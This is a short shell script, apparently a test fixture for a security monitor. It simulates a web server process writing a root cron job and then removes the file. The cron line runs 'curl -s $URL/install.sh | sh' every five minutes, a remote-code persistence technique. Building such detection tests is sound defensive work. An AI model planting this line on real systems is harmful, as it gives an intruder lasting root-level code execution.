#!/bin/sh
# malicious: the same cron file written by a web server shell (httpd -> sh -c), for persistence
. "$(dirname "$0")/../../lib.sh"
$B/httpd "echo '*/5 * * * * root curl -s $URL/install.sh | sh' > /etc/cron.d/quell-jlive-sysstat"
rm -f /etc/cron.d/quell-jlive-sysstat
